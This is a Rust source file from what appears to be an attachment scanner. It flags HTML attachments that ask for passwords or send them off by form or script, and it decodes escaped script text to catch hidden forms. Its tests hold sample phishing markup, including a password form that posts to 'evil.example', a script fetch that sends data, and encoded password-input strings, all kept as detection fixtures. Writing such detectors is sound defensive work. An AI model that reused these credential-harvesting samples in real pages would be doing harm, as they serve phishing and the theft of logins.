//! Pages that come as files: they are opened in the browser, from the reader's own disk, where no
//! filter of links looks on.
//!
//! Touches nothing. Scripts are read, never run; what they write is undone as far as it is only
//! spelt in another way.

use posthouse_types::Finding;

use crate::html::{Loads, Page};
use crate::kinds;
use crate::links::Heaviest;
use crate::pages::first_of;
use crate::url::Url;

/// Findings about one attached page.
pub(crate) fn findings(name: &str, page: &Page, found: &mut Heaviest) {
    let counts = &page.counts;
    // A form that only exists once its script has run is a form.
    let script = spelt_out(&page.script);
    let builds = |marks: &[&str]| marks.iter().any(|mark| script.contains(mark));
    if counts.passwords > 0 || builds(&["type=password"]) {
        let form = first_of(page, Loads::Form).and_then(|action| Url::read(action, None));
        let target = form.filter(Url::is_web).map(|url| url.host.shown());
        let sends = ["fetch(", "xmlhttprequest", "$.ajax(", "$.post(", "<formaction=http"];
        match target.or_else(|| builds(&sends).then(|| "script".to_owned())) {
            Some(target) => found.add(
                Finding::of(&kinds::ATTACHED_THEFT).with("name", name).with("target", &target),
            ),
            None => found.add(Finding::of(&kinds::ATTACHED_PASSWORD).with("name", name)),
        }
    } else if counts.forms > 0 || builds(&["<formaction=", "<formmethod="]) {
        found.add(Finding::of(&kinds::ATTACHED_FORM).with("name", name));
    }
    let leaves = ["location.href", "location.replace", "location.assign", "window.location"];
    let target = first_of(page, Loads::Refresh);
    if let Some(target) = target.or_else(|| builds(&leaves).then_some("script")) {
        found.add(Finding::of(&kinds::ATTACHED_REFRESH).with("name", name).with("target", target));
    }
    if counts.scripts > 0 {
        found.add(Finding::of(&kinds::ATTACHED_SCRIPT).with("name", name));
    }
}

/// A script in lower case without blanks, quotes and backslashes, with `%70`, `\x70` and
/// `\u0070` undone, each once: what it writes, however its strings spell it. Linear.
fn spelt_out(script: &str) -> String {
    let mut out = String::with_capacity(script.len());
    let mut rest = script;
    while let Some(first) = rest.chars().next() {
        let escape = [("%", 2), ("\\x", 2), ("\\u", 4)].into_iter().find_map(|(mark, digits)| {
            let code = rest.strip_prefix(mark)?.get(..digits)?;
            let value = u32::from_str_radix(code, 16).ok().and_then(char::from_u32)?;
            Some((value, mark.len() + digits))
        });
        let (character, length) = escape.unwrap_or((first, first.len_utf8()));
        rest = rest.get(length..).unwrap_or_default();
        if !character.is_whitespace() && !matches!(character, '"' | '\'' | '`' | '\\') {
            out.push(character.to_ascii_lowercase());
        }
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn ids(html: &str) -> Vec<(&'static str, String)> {
        let mut found = Heaviest::default();
        findings("a.html", &crate::html::read(html), &mut found);
        let target = |finding: &Finding| {
            let target = finding.arguments.iter().find(|(name, _)| *name == "target");
            target.map(|(_, value)| value.clone()).unwrap_or_default()
        };
        found.into_findings().iter().map(|one| (one.kind.id, target(one))).collect()
    }

    #[test]
    fn a_page_that_sends_a_password_elsewhere_is_told_from_one_that_asks() {
        let form = |action: &str| format!("<form {action}><input type=password></form>");
        let to = |target: &str| vec![("attached-page-sends-password", target.to_owned())];
        assert_eq!(ids(&form("action=https://evil.example/x.php")), to("evil.example"));
        let asks = vec![("attached-page-asks-password", String::new())];
        assert_eq!(ids(&form("")), asks);
        let sends = form("") + "<script>fetch(u, {body: p})</script>";
        assert!(ids(&sends).contains(&to("script")[0]), "{:?}", ids(&sends));
    }

    #[test]
    fn a_form_that_a_script_writes_is_a_form_however_it_is_spelt() {
        for written in [
            "%3Cinput%20type%3D%22password%22%3E",
            r"\x3cinput\x20type\x3d\x22password\x22\x3e",
            r#"\u003cinput type=\"pass\u0077ord\"\u003e"#,
            "<input TYPE='password'>",
        ] {
            let found = ids(&format!("<script>document.write(unescape('{written}'))</script>"));
            assert!(found.iter().any(|(id, _)| *id == "attached-page-asks-password"), "{written}");
        }
        for harmless in ["100%", "%zz\\x4", "\\u00", "50%\u{e4}"] {
            let found = ids(&format!("<script>var a = '{harmless}';</script>"));
            assert_eq!(found, [("attached-page-script", String::new())], "{harmless}");
        }
    }
}
